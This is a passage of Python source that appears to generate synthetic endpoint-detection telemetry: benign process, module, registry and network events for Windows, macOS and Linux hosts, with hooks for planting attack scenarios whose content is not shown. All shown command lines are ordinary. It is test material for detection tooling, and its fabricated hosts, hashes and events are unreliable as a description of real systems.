        _w_edge,
    ),
    (
        5,
        "C:\\Windows\\System32\\conhost.exe",
        "cmd.exe",
        0,
        "8192",
        False,
        _fixed("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ),
    (
        4,
        "C:\\Windows\\System32\\RuntimeBroker.exe",
        "svchost.exe",
        0,
        "8192",
        False,
        _fixed("C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"),
    ),
    (
        3,
        "C:\\Windows\\System32\\backgroundTaskHost.exe",
        "svchost.exe",
        0,
        "4096",
        True,
        _fixed(
            '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca'
        ),
    ),
    (
        3,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "AgentExecutor.exe",
        1,
        "16384",
        True,
        _w_powershell,
    ),
    (4, "C:\\Windows\\System32\\cmd.exe", "explorer.exe", 0, "8192", False, _w_cmd),
    (
        2,
        "C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.10.7-hotspot\\bin\\java.exe",
        "services.exe",
        1,
        "16384",
        True,
        _w_java,
    ),
    (
        3,
        "{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
        "Code.exe",
        0,
        "8192",
        True,
        _w_code,
    ),
    (
        2,
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "explorer.exe",
        0,
        "8192",
        True,
        _w_winword,
    ),
    (1, "C:\\Windows\\System32\\notepad.exe", "explorer.exe", 0, "8192", False, _w_notepad),
    (
        2,
        "C:\\Windows\\System32\\SearchProtocolHost.exe",
        "SearchIndexer.exe",
        1,
        "16384",
        False,
        _w_search,
    ),
    (
        2,
        "C:\\Windows\\System32\\taskhostw.exe",
        "svchost.exe",
        0,
        "8192",
        False,
        _fixed("taskhostw.exe KEYROAMING"),
    ),
    (
        2,
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "svchost.exe",
        3,
        "16384",
        False,
        _fixed("C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
    ),
    (2, "C:\\Windows\\System32\\dllhost.exe", "svchost.exe", 0, "8192", False, _w_dllhost),
    (2, "C:\\Program Files\\Git\\cmd\\git.exe", "Code.exe", 0, "8192", True, _w_git),
    (
        2,
        "{home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
        "explorer.exe",
        0,
        "8192",
        True,
        _w_onedrive,
    ),
    (
        2,
        "C:\\Program Files\\WindowsApps\\MSTeams_24335.206.3314.2540_x64__8wekyb3d8bbwe\\ms-teams.exe",
        "explorer.exe",
        0,
        "8192",
        True,
        _fixed(
            '"C:\\Program Files\\WindowsApps\\MSTeams_24335.206.3314.2540_x64__8wekyb3d8bbwe\\ms-teams.exe" msteams:system-initiated'
        ),
    ),
    (
        1,
        "C:\\Windows\\System32\\rundll32.exe",
        "svchost.exe",
        0,
        "8192",
        False,
        _fixed(
            "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 WinY:0 IEFrame:0000000000000000"
        ),
    ),
    (
        1,
        "C:\\Windows\\System32\\CompatTelRunner.exe",
        "svchost.exe",
        1,
        "16384",
        True,
        _fixed(
            "C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun -cv:K1nHp+2OaEa3g2ZC.2"
        ),
    ),
    (
        1,
        "C:\\Windows\\servicing\\TrustedInstaller.exe",
        "services.exe",
        1,
        "16384",
        False,
        _fixed("C:\\Windows\\servicing\\TrustedInstaller.exe"),
    ),
    (
        1,
        "C:\\Windows\\System32\\msiexec.exe",
        "services.exe",
        1,
        "16384",
        False,
        _fixed("C:\\Windows\\system32\\msiexec.exe /V"),
    ),
    (1, "C:\\Windows\\System32\\sihost.exe", "svchost.exe", 0, "8192", False, _fixed("sihost.exe")),
    (
        1,
        "C:\\Windows\\System32\\smartscreen.exe",
        "svchost.exe",
        0,
        "8192",
        True,
        _fixed("C:\\Windows\\System32\\smartscreen.exe -Embedding"),
    ),
)


def _m_chrome(r: random.Random, h: _Host) -> str:
    exe = (
        "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/"
        "Versions/131.0.6778.86/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/"
        "Google Chrome Helper (Renderer)"
    )
    return _chromium_cmd(exe, r, h, False)


def _m_slack(r: random.Random, h: _Host) -> str:
    return (
        "/Applications/Slack.app/Contents/Frameworks/Slack Helper.app/Contents/MacOS/Slack Helper "
        "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-GB "
        f"--service-sandbox-type=network --user-data-dir={h.home}/Library/Application Support/Slack "
        f"--shared-files --field-trial-handle={r.randrange(1000, 9999)},i,{r.getrandbits(62)},{r.getrandbits(62)},262144 "
        "--enable-features=kWebSQLAccess --disable-features=SpareRendererForSitePerProcess"
    )


def _m_git(r: random.Random, h: _Host) -> str:
    repo = r.choice(("api", "web-frontend", "infra", "données-analyse"))
    return f"git -C {h.home}/src/{repo} -c credential.helper= fetch origin main"


def _m_python(r: random.Random, h: _Host) -> str:
    return f"/opt/homebrew/bin/python3 {h.home}/projects/dashboard/manage.py runserver 127.0.0.1:{r.choice((8000, 8001, 5000))}"


def _m_curl(r: random.Random, h: _Host) -> str:
    return "curl -s https://api.github.com/repos/acme/tooling/releases/latest -H 'Accept: application/json'"


def _m_open(r: random.Random, h: _Host) -> str:
    doc = r.choice(
        ("Präsentation.key", "Zoë \u2013 notes.pages", "report<final>.pdf", "budget & plan.numbers")
    )
    return f"/usr/bin/open {h.home}/Documents/{doc}"


_MAC_PROCS: tuple[tuple[int, str, str, int, str, bool, _Cmd], ...] = (
    (
        12,
        "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/131.0.6778.86/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/Google Chrome Helper (Renderer)",
        "Google Chrome",
        0,
        "",
        True,
        _m_chrome,
    ),
    (
        6,
        "/usr/libexec/xpcproxy",
        "launchd",
        1,
        "",
        False,
        _fixed("xpcproxy com.apple.mdworker.shared.0B000000-0000-0000-0000-000000000000"),
    ),
    (
        6,
        "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared",
        "launchd",
        0,
        "",
        False,
        _fixed(
            "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared -s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared"
        ),
    ),
    (4, "/bin/zsh", "login", 0, "", False, _fixed("-zsh")),
    (3, "/usr/bin/git", "zsh", 0, "", True, _m_git),
    (
        5,
        "/Applications/Slack.app/Contents/Frameworks/Slack Helper.app/Contents/MacOS/Slack Helper",
        "Slack",
        0,
        "",
        True,
        _m_slack,
    ),
    (2, "/usr/sbin/cfprefsd", "launchd", 0, "", False, _fixed("/usr/sbin/cfprefsd agent")),
    (2, "/usr/libexec/trustd", "launchd", 0, "", True, _fixed("/usr/libexec/trustd --agent")),
    (2, "/opt/homebrew/bin/python3", "zsh", 0, "", True, _m_python),
    (2, "/usr/bin/curl", "zsh", 0, "", True, _m_curl),
    (1, "/usr/bin/open", "zsh", 0, "", False, _m_open),
    (
        1,
        "/System/Library/PrivateFrameworks/PackageKit.framework/Resources/installd",
        "launchd",
        1,
        "",
        False,
        _fixed("/System/Library/PrivateFrameworks/PackageKit.framework/Resources/installd"),
    ),
    (
        1,
        "/usr/bin/ssh",
        "zsh",
        0,
        "",
        True,
        _fixed("ssh -o ServerAliveInterval=30 bastion.corp.local"),
    ),
)


def _l_bash(r: random.Random, h: _Host) -> str:
    return r.choice(
        (
            "/bin/bash -c /opt/app/bin/rotate-tokens.sh >> /var/log/app/cron.log 2>&1",
            "bash -lc cd /srv/app && ./bin/healthcheck --timeout=5",
            "/bin/bash /usr/local/bin/backup-db.sh --target=s3://acme-backups/db --compress",
            "-bash",
        )
    )


def _l_java(r: random.Random, h: _Host) -> str:
    return _java_cmd("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/opt/acme", ":", r, False)


def _l_python(r: random.Random, h: _Host) -> str:
    q = r.choice(("default", "emails", "reports"))
    return f"/usr/bin/python3 /opt/app/worker.py --queue={q} --concurrency={r.choice((2, 4, 8))}"


def _l_shim(r: random.Random, h: _Host) -> str:
    return (
        f"/usr/bin/containerd-shim-runc-v2 -namespace moby -id {_hex(r, 256)} "
        "-address /run/containerd/containerd.sock"
    )


def _l_grep(r: random.Random, h: _Host) -> str:
    return r.choice(
        (
            "grep -E 'error|warn' /var/log/app/app.log",
            "awk '$9 >= 500 {print $7}' /var/log/nginx/access.log",
            "ps -eo pid,ppid,cmd --sort=-%mem",
            "sleep 30",
            "date +%s",
        )
    )


def _l_kubelet(r: random.Random, h: _Host) -> str:
    return (
        "/usr/bin/kubelet --bootstrap-kubeconfig=/etc/kubernetes/bootstrap-kubelet.conf "
        "--kubeconfig=/etc/kubernetes/kubelet.conf --config=/var/lib/kubelet/config.yaml "
        "--container-runtime-endpoint=unix:///var/run/containerd/containerd.sock "
        f"--node-ip={h.pub['local_ip']} --pod-infra-container-image=registry.k8s.io/pause:3.9 "
        "--node-labels=node.kubernetes.io/role=worker,topology.kubernetes.io/zone=eu-west-1a"
    )


_LIN_PROCS: tuple[tuple[int, str, str, int, str, bool, _Cmd], ...] = (
    (6, "/usr/bin/bash", "sshd", 0, "", False, _l_bash),
    (3, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "systemd", 0, "", True, _l_java),
    (4, "/usr/bin/python3.12", "systemd", 0, "", True, _l_python),
    (
        3,
        "/usr/bin/node",
        "systemd",
        0,
        "",
        True,
        _fixed("/usr/bin/node --max-old-space-size=2048 /srv/app/dist/server.js"),
    ),
    (2, "/usr/sbin/nginx", "systemd", 1, "", True, _fixed("nginx: worker process")),
    (3, "/usr/bin/containerd-shim-runc-v2", "systemd", 1, "", False, _l_shim),
    (
        2,
        "/usr/bin/curl",
        "bash",
        0,
        "",
        True,
        _fixed("curl -fsS -o /dev/null -w '%{http_code}' http://127.0.0.1:8080/healthz"),
    ),
    (2, "/usr/bin/git", "bash", 0, "", True, _fixed("git pull --ff-only origin main")),
    (
        1,
        "/usr/sbin/logrotate",
        "run-parts",
        1,
        "",
        False,
        _fixed("/usr/sbin/logrotate /etc/logrotate.conf"),
    ),
    (6, "/usr/bin/grep", "bash", 0, "", False, _l_grep),
    (2, "/usr/bin/kubelet", "systemd", 1, "", True, _l_kubelet),
    (
        2,
        "/usr/bin/ssh",
        "bash",
        0,
        "",
        True,
        _fixed("ssh -o StrictHostKeyChecking=no deploy@10.0.3.12 uptime"),
    ),
    (
        2,
        "/usr/bin/sudo",
        "bash",
        0,
        "",
        False,
        _fixed("sudo -u www-data /usr/bin/php /var/www/app/artisan queue:work --tries=3"),
    ),
)

_WIN_MODULES = (
    "C:\\Windows\\System32\\ntdll.dll",
    "C:\\Windows\\System32\\kernel32.dll",
    "C:\\Windows\\System32\\KernelBase.dll",
    "C:\\Windows\\System32\\advapi32.dll",
    "C:\\Windows\\System32\\crypt32.dll",
    "C:\\Windows\\System32\\winhttp.dll",
    "C:\\Windows\\System32\\amsi.dll",
    "C:\\Windows\\System32\\wininet.dll",
    "C:\\Windows\\System32\\clr.dll",
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clrjit.dll",
    "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Management.A#\\0a5c3b2d\\System.Management.Automation.ni.dll",
    "C:\\Program Files\\Google\\Chrome\\Application\\131.0.6778.86\\chrome.dll",
    "{home}\\AppData\\Local\\Temp\\{rand}.dll",
    "{home}\\AppData\\Roaming\\Zoom\\bin\\zWebService.dll",
)
_MAC_MODULES = (
    "/usr/lib/libSystem.B.dylib",
    "/usr/lib/libobjc.A.dylib",
    "/System/Library/Frameworks/Security.framework/Versions/A/Security",
    "/System/Library/Frameworks/Foundation.framework/Versions/C/Foundation",
    "/Applications/Slack.app/Contents/Frameworks/Electron Framework.framework/Versions/A/Electron Framework",
    "{home}/Library/Caches/com.acme.agent/{rand}.dylib",
)
_LIN_MODULES = (
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/usr/lib/x86_64-linux-gnu/libssl.so.3",
    "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
    "/usr/lib/x86_64-linux-gnu/libpthread.so.0",
    "/usr/lib/jvm/java-17-openjdk-amd64/lib/server/libjvm.so",
    "/usr/lib/python3.12/lib-dynload/_ssl.cpython-312-x86_64-linux-gnu.so",
    "/tmp/.X11-unix/{rand}.so",
)
_WIN_WRITE_DIRS = (
    "{home}\\AppData\\Local\\Temp\\",
    "{home}\\Downloads\\",
    "{home}\\Documents\\Entwürfe\\",
    "{home}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\",
    "C:\\Windows\\Temp\\",
    "C:\\ProgramData\\Corp\\Agent\\cache\\",
    "C:\\Windows\\SoftwareDistribution\\Download\\",
)
_MAC_WRITE_DIRS = (
    "{home}/Library/Caches/com.google.Chrome/",
    "{home}/Downloads/",
    "{home}/Documents/Présentations/",
    "/private/var/folders/7x/k2m1lq9d0fb6_r8n1w3x4t5c0000gn/T/",
    "/Library/Application Support/JAMF/tmp/",
)
_LIN_WRITE_DIRS = (
    "/tmp/",
    "/var/tmp/",
    "/var/lib/docker/overlay2/",
    "/srv/app/releases/",
    "{home}/.cache/pip/",
    "/var/log/app/",
)
_WIN_REG = (
    (
        "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update",
        "LastOnlineScanTimeForAppCategory",
        "2025-10-09 06:12:44",
    ),
    (
        "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings\\{sid}",
        "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe",
        "",
    ),
    (
        "\\REGISTRY\\USER\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings",
        "AutoConfigURL",
        "http://wpad.corp.local/proxy.pac?site=hq&v=3",
    ),
    (
        "\\REGISTRY\\USER\\{sid}\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities",
        "ProfileName",
        "{user}",
    ),
    (
        "\\REGISTRY\\USER\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx",
        "MRUListEx",
        "",
    ),
    (
        "\\REGISTRY\\MACHINE\\SOFTWARE\\Policies\\Google\\Chrome",
        "HomepageLocation",
        "https://intranet.corp.local/?src=gpo&lang=en",
    ),
    (
        "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Features",
        "TamperProtection",
        "5",
    ),
    ("\\REGISTRY\\USER\\{sid}\\Software\\Slack\\Updates", "LastCheck", "<none>"),
)
_LOGON_TYPES = ("2", "3", "7", "10", "11")


# --------------------------------------------------------------------------
# Generator internals


class _Proc:
    """One background process image, pre-escaped for one host."""

    __slots__ = (
        "cmd",
        "e_fname",
        "e_fpath",
        "e_image",
        "e_parent",
        "fname",
        "integrity",
        "md5",
        "net",
        "sha256",
        "user",
    )

    def __init__(
        self, image: str, parent: str, user: int, integrity: str, net: bool, cmd: _Cmd, h: _Host
    ) -> None:
        sep = "\\" if h.platform == "Win" else "/"
        dev = _dev_path(image, h.pub["volume"]) if h.platform == "Win" else image
        fpath, fname = _split(dev, sep)
        self.fname = fname
        self.e_image = _e2(dev)
        self.e_fname = _e2(fname)
        self.e_fpath = _e2(fpath)
        self.e_parent = _e2(parent)
        self.user = min(user, len(h.pub["users"]) - 1)
        self.integrity = integrity
        self.net = net
        self.cmd = cmd
        self.sha256 = _digest(image.lower(), 32)
        self.md5 = _digest("md5:" + image.lower(), 16)


class _Host:
    """Per-host state of the generator: the public host dict plus the
    pre-encoded pieces of its lines."""

    def __init__(self, pub: dict) -> None:
        self.pub = pub
        self.platform = pub["platform"]
        self.pidx = _PLATFORM_INDEX[self.platform]
        primary = pub["users"][0]
        self.home = primary["home"]
        self.user = primary["UserName"]
        self.cname = pub["hostname"]
        self.e_local_ip = pub["local_ip"]
        self.id_tail = f"11f0-{pub['node'][:4]}-{pub['node'][4:]}"
        self.e_users = [
            (_e2(u["UserName"]), u.get("UserSid") or u.get("UID"), u.get("GID", ""))
            for u in pub["users"]
        ]
        self.static: list[tuple[tuple[str, str], tuple[str, str]] | None] = []
        for k, simple in enumerate(_KINDS):
            versioned = _VERSIONED[simple][self.pidx]
            if not versioned:
                self.static.append(None)
                continue
            self.static.append(
                (
                    self._static(simple, versioned, k, False),
                    self._static(simple, versioned, k, True),
                )
            )
        catalog = {"Win": _WIN_PROCS, "Mac": _MAC_PROCS, "Lin": _LIN_PROCS}[self.platform]
        self.procs: list[_Proc] = []
        self.proc_pick: list[int] = []
        for weight, image, parent, user, integ, net, cmd in catalog:
            self.proc_pick += [len(self.procs)] * weight
            self.procs.append(
                _Proc(image.replace("{home}", self.home), parent, user, integ, net, cmd, self)
            )
        self.net_procs = [p for p in self.procs if p.net]
        modules = {"Win": _WIN_MODULES, "Mac": _MAC_MODULES, "Lin": _LIN_MODULES}[self.platform]
        self.modules = []
        for m in modules:
            path = m.replace("{home}", self.home)
            if self.platform == "Win":
                path = _dev_path(path, pub["volume"])
            head, _, rest = path.partition("{rand}")
            self.modules.append((_e2(head), rest, "{rand}" in m, _e2(path)))
        dirs = {"Win": _WIN_WRITE_DIRS, "Mac": _MAC_WRITE_DIRS, "Lin": _LIN_WRITE_DIRS}[
            self.platform
        ]
        self.write_dirs = [
            _e2(
                _dev_path(d.replace("{home}", self.home), pub["volume"])
                if self.platform == "Win"
                else d.replace("{home}", self.home)
            )
            for d in dirs
        ]
        sid = pub["users"][0].get("UserSid", "")
        self.reg = [
            (_e2(o.replace("{sid}", sid)), _e2(v), _e2(s.replace("{user}", self.user)))
            for o, v, s in _WIN_REG
        ]

    def _static(self, simple: str, versioned: str, k: int, ascii_only: bool) -> tuple[str, str]:
        pub = self.pub
        vals: dict[str, str | None] = {
            "event_simpleName": f'"{simple}"',
            "ConfigStateHash": f'"{pub["ConfigStateHash"]}"',
            "ConfigBuild": f'"{pub["ConfigBuild"]}"',
            "name": f'"{versioned}"',
            "Entitlements": f'"{pub["Entitlements"]}"',
            "EffectiveTransmissionClass": f'"{_TRANSMISSION.get(simple, "3")}"',
            "aid": f'"{pub["aid"]}"',
            "aip": f'"{pub["aip"]}"',
            "cid": f'"{pub["cid"]}"',
            "event_platform": f'"{self.platform}"',
            "ComputerName": (
                '"' + gson_escape(pub["ComputerName"], ascii_only) + '"'
                if pub["ComputerName"]
                else None
            ),
            "EventOrigin": str(pub["EventOrigin"]) if pub["EventOrigin"] is not None else None,
        }
        n = len(_COMMON_ORDER)
        shift = (k * 5) % n
        order = _COMMON_ORDER[shift:] + _COMMON_ORDER[:shift]
        keys = [key for key in order if vals[key] is not None]
        cut = 2 + k % 6
        head = ",".join(f'"{key}":{vals[key]}' for key in keys[:cut])
        tail = ",".join(f'"{key}":{vals[key]}' for key in keys[cut:])
        return head, tail


def _kind_table(mix: str, platform: str) -> list[int]:
    table: list[int] = []
    for simple, weight in _MIX_WEIGHTS[mix][platform]:
        table += [_KIND_INDEX[simple]] * weight
    if len(table) != 1000:  # pragma: no cover - guarded by the weights above
        raise AssertionError(f"weights of {mix}/{platform} sum to {len(table)}")
    return table


class _Gen:
    def __init__(self, seed: int, mix: str, malicious_rate: float) -> None:
        if mix not in MIXES:
            raise ValueError(f"unknown mix {mix!r}; expected one of {', '.join(MIXES)}")
        if not 0.0 <= malicious_rate <= 1.0:
            raise ValueError("malicious_rate must be between 0 and 1")
        self.rng = random.Random(seed)
        self.mix = mix
        self.rate = malicious_rate
        pubs = _build_hosts(self.rng)
        self.hosts = [_Host(p) for p in pubs]
        self.by_platform = {p: [h for h in self.hosts if h.platform == p] for p in _PLATFORMS}
        self.kinds = [_kind_table(mix, p) for p in _PLATFORMS]
        self.public_ips = [_ip(self.rng, _PUBLIC_FIRST_OCTETS) for _ in range(256)]
        self.private_ips = [_private_ip(self.rng) for _ in range(64)]
        self.e_domains = [_e2(d) for d in _DOMAINS]
        self.builders: list[Callable[[_Host, int, int], str]] = [
            getattr(self, "_b_" + simple) for simple in _KINDS
        ]
        self.t = START_MS

    # -- framing ---------------------------------------------------------

    def _frame(self, h: _Host, kind: int, t: int, a: int, dyn: str) -> str:
        rng = self.rng
        head, tail = h.static[kind][a]  # type: ignore[index]
        x = rng.getrandbits(48)
        ts_id = f'"timestamp":"{t}","id":"{x >> 16:08x}-{x & 0xFFFF:04x}-{h.id_tail}"'
        if rng.random() < _FLIP_SHARE:
            return f"{{{ts_id},{tail},{dyn},{head}}}\n"
        return f"{{{head},{dyn},{ts_id},{tail}}}\n"

    def lines(self, events: int) -> Iterator[str]:
        rng = self.rng
        rnd = rng.random
        hosts = self.hosts
        nh = len(hosts)
        kinds = self.kinds
        builders = self.builders
        rate = self.rate
        emitted = 0
        while emitted < events:
            if rate:
                r = rnd()
                if r < 2 * rate:
                    names = SCENARIOS if r < rate else LOOKALIKES
                    block = self._planted(names[int(rnd() * len(names))], events - emitted)
                    if block:
                        emitted += len(block)
                        yield from block
                        continue
            h = hosts[int(rnd() * nh)]
            table = kinds[h.pidx]
            kind = table[int(rnd() * 1000)]
            self.t += 1 + int(rnd() * 9)
            t = self.t
            a = 1 if rnd() < _ESCAPED_SHARE else 0
            yield self._frame(h, kind, t, a, builders[kind](h, t, a))
            emitted += 1

    def _planted(self, name: str, budget: int) -> list[str]:
        rng = self.rng
        platforms = _SCENARIO_PLATFORMS[name]
        platform = platforms[int(rng.random() * len(platforms))]
        pool = self.by_platform[platform]
        h = pool[int(rng.random() * len(pool))]
        evs = scenario_events(name, rng, h.pub, start_ms=self.t + 1)
        if self.mix == "worst":
            evs = [
                e for e in evs if e["event_simpleName"] in ("ProcessRollup2", "NetworkConnectIP4")
            ]
        if not evs or len(evs) > budget:
            return []
        a = rng.random() < _ESCAPED_SHARE
        self.t = int(evs[-1]["timestamp"])
        return [_encode_object(e, a) + "\n" for e in evs]

    # -- per event type builders: return the type-specific fragment ----------

    def _pick_proc(self, h: _Host) -> _Proc:
        pick = h.proc_pick
        return h.procs[pick[int(self.rng.random() * len(pick))]]

    def _upid(self) -> str:
        return str(self.rng.getrandbits(44))

    def _b_ProcessRollup2(self, h: _Host, t: int, a: int) -> str:
        rng = self.rng
        rnd = rng.random
        p = self._pick_proc(h)
        cmd = gson_escape(p.cmd(rng, h), bool(a))
        e_user, uid, gid = h.e_users[p.user]
        start = t - int(rnd() * 40)
        tpid = self._upid()
        ppid = self._upid()
        user_part = "" if rnd() < _NO_USER_SHARE else f'"UserName":"{e_user[a]}",'
        tags = _TAGS[int(rnd() * len(_TAGS))]
        if h.platform == "Win":
            raw = (int(rnd() * 16000) + 1) * 4
            auth = "999" if p.user == 1 else str(100000 + int(rnd() * 9000000))
            return (
                f'"CommandLine":"{cmd}","ImageFileName":"{p.e_image[a]}",'
                f'"ParentBaseFileName":"{p.e_parent[a]}","GrandParentBaseFileName":"{"services.exe" if p.user else "userinit.exe"}",'
                f'"FileName":"{p.e_fname[a]}","FilePath":"{p.e_fpath[a]}",{user_part}'
                f'"UserSid":"{uid}","TargetProcessId":"{tpid}","ParentProcessId":"{ppid}",'
                f'"SourceProcessId":"{ppid}","SourceThreadId":"{self._upid()}","RawProcessId":"{raw}",'
                f'"AuthenticationId":"{auth}","ParentAuthenticationId":"{auth}",'
                f'"IntegrityLevel":"{p.integrity}","TokenType":"{1 if p.user else 2}",'
                f'"SessionId":"{0 if p.user else 1}","SHA256HashData":"{p.sha256}",'
                f'"MD5HashData":"{p.md5}","SHA1HashData":"0000000000000000000000000000000000000000",'
                f'"ProcessStartTime":"{_secs(start)}","ProcessEndTime":"",'
                f'"ProcessCreateFlags":"{"525332" if rnd() < 0.5 else "1024"}","ProcessParameterFlags":"16385",'
                f'"ProcessSxsFlags":"64","ImageSubsystem":"{3 if "cmd" in p.fname or "exe" not in p.fname else 2}",'
                f'"SignInfoFlags":"8683538","Tags":"{tags}","RpcClientProcessId":"0",'
                f'"ConfigIDBuild":"{h.pub["ConfigBuild"].split(".")[2]}"'
            )
        raw = 200 + int(rnd() * 90000)
        return (
            f'"ImageFileName":"{p.e_image[a]}","CommandLine":"{cmd}",'
            f'"ParentBaseFileName":"{p.e_parent[a]}","FileName":"{p.e_fname[a]}",'
            f'"FilePath":"{p.e_fpath[a]}",{user_part}"UID":"{uid}","GID":"{gid}","RUID":"{uid}",'
            f'"RGID":"{gid}","SVUID":"{uid}","SVGID":"{gid}","TargetProcessId":"{tpid}",'
            f'"ParentProcessId":"{ppid}","SourceProcessId":"{ppid}","RawProcessId":"{raw}",'
            f'"ProcessGroupId":"{raw}","SessionProcessId":"{raw - 1}",'
            f'"SHA256HashData":"{p.sha256}","MD5HashData":"{p.md5}",'
            f'"SHA1HashData":"0000000000000000000000000000000000000000",'
            f'"ProcessStartTime":"{_secs(start)}","ProcessEndTime":"","Tags":"{tags}"'
        )

    def _b_SyntheticProcessRollup2(self, h: _Host, t: int, a: int) -> str:
        return self._b_ProcessRollup2(h, t, a)

    def _b_ProcessRollup2Stats(self, h: _Host, t: int, a: int) -> str:
        rng = self.rng
        p = self._pick_proc(h)
        return (
            f'"ImageFileName":"{p.e_image[a]}","SHA256HashData":"{p.sha256}",'
            f'"CommandLine":"{gson_escape(p.cmd(rng, h), bool(a))}",'
            f'"ProcessCount":"{1 + int(rng.random() * 60)}","TimeStart":"{_secs(t - 600000)}",'
            f'"TimeEnd":"{_secs(t)}","TargetProcessId":"{self._upid()}"'
        )

    def _net_fields(self, h: _Host, t: int, a: int, inbound: bool) -> str:
        rng = self.rng
        rnd = rng.random
        if rnd() < 0.8:
            remote = self.public_ips[int(rnd() * 256)]
        else:
            remote = self.private_ips[int(rnd() * 64)]
        r = rnd()
        port = (
            "443"
            if r < 0.7
            else "80"
            if r < 0.82
            else "53"
            if r < 0.88
            else "22"
            if r < 0.92
            else "8443"
        )
        proto = "17" if port == "53" else "6"
        eph = str((49152 if h.pidx == 0 else 32768) + int(rnd() * 16000))
        if inbound:
            lport, rport = ("22" if h.pidx == 2 else "445"), eph
        else:
            lport, rport = eph, port
        image = ""
        if rnd() < _NET_IMAGE_SHARE:
            np = h.net_procs
            image = f'"ImageFileName":"{np[int(rnd() * len(np))].e_image[a]}",'
        return (
            f'"LocalAddressIP4":"{h.e_local_ip}","LocalPort":"{lport}",'
            f'"RemoteAddressIP4":"{remote}","RemotePort":"{rport}","Protocol":"{proto}",'
            f'"ConnectionDirection":"{1 if inbound else 0}","ConnectionFlags":"{0 if rnd() < 0.7 else 2}",'
            f'{image}"ContextProcessId":"{self._upid()}","ContextThreadId":"{self._upid()}",'
            f'"ContextTimeStamp":"{_secs(t - int(rnd() * 30))}","InContext":"{1 if rnd() < 0.6 else 0}"'
        )

    def _b_NetworkConnectIP4(self, h: _Host, t: int, a: int) -> str:
        return self._net_fields(h, t, a, False)

    def _b_NetworkReceiveAcceptIP4(self, h: _Host, t: int, a: int) -> str:
        return self._net_fields(h, t, a, True)

    def _b_NetworkCloseIP4(self, h: _Host, t: int, a: int) -> str:
        return self._net_fields(h, t, a, False)

    def _b_DnsRequest(self, h: _Host, t: int, a: int) -> str:
        rnd = self.rng.random
        dom = self.e_domains[int(rnd() * len(self.e_domains))][a]
        ips = self.public_ips
        i = int(rnd() * 250)
        n = 1 + int(rnd() * 4)
        records = "".join(ips[i + j] + ";" for j in range(n))
        np = h.net_procs
        base = np[int(rnd() * len(np))].e_fname[a]
        return (
            f'"DomainName":"{dom}","RequestType":"{28 if rnd() < 0.15 else 1}",'
            f'"ContextProcessId":"{self._upid()}","ContextBaseFileName":"{base}",'
            f'"ContextTimeStamp":"{_secs(t - int(rnd() * 30))}","IP4Records":"{records}",'
            f'"FirstIP4Record":"{ips[i]}","DnsResponseType":"1","QueryStatus":"0",'
            f'"InterfaceIndex":"{int(rnd() * 20)}","DualRequest":"0"'
        )

    def _module(self, h: _Host, a: int) -> tuple[str, str]:
        rng = self.rng
        e_head, rest, rand, e_full = h.modules[int(rng.random() * len(h.modules))]
        if rand:
            name = f"{rng.getrandbits(32):08x}"
            path = e_head[a] + name + rest
            return path, _digest(path, 32)
        return e_full[a], _digest(e_full[0], 32)

    def _b_ImageHash(self, h: _Host, t: int, a: int) -> str:
        rnd = self.rng.random
        path, sha = self._module(h, a)
        return (
            f'"ImageFileName":"{path}","SHA256HashData":"{sha}","MD5HashData":"{sha[:32]}",'
            f'"ContextProcessId":"{self._upid()}","ContextTimeStamp":"{_secs(t - int(rnd() * 30))}"'
        )

    def _b_ClassifiedModuleLoad(self, h: _Host, t: int, a: int) -> str:
        rng = self.rng
        rnd = rng.random
        path, sha = self._module(h, a)
        p = self._pick_proc(h)
        attacks = ""
        if rnd() < _ATTACKS_SHARE:
            picked = rng.sample(_ATTACKS, 1 + int(rnd() * 2))
            attacks = ',"Attacks":' + _encode_value(list(picked), False)
        return (
            f'"ImageFileName":"{p.e_image[a]}","TargetImageFileName":"{path}",'
            f'"ModuleSize":"{4096 * (1 + int(rnd() * 2000))}","SHA256HashData":"{sha}",'
            f'"ContextProcessId":"{self._upid()}","ContextThreadId":"{self._upid()}",'
            f'"ContextTimeStamp":"{_secs(t - int(rnd() * 30))}","LoadCount":"1"{attacks}'
        )

    def _b_EndOfProcess(self, h: _Host, t: int, a: int) -> str:
        rnd = self.rng.random
